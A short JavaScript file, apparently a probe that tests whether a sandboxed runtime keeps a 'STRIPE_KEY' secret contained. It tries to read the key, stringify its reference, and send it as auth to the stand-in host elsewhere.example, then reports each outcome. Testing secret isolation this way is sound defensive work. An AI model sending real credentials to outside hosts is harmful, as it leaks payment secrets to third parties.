// Type oneoff: tries to get hold of the key, and tells what came of it.
export default async function (input, ctx) {
  const reference = ctx.http.secret("STRIPE_KEY");
  const attempts = {
    "read it": () => ctx.secrets.get("STRIPE_KEY"),
    "make text of it": () => `${reference}`,
    "send it elsewhere": () => ctx.http.get("https://elsewhere.example/", { auth: reference }),
  };
  const outcomes = {};
  for (const [what, attempt] of Object.entries(attempts)) {
    try {
      outcomes[what] = await attempt();
    } catch (error) {
      outcomes[what] = error.code ?? error.name;
    }
  }
  return outcomes;
}
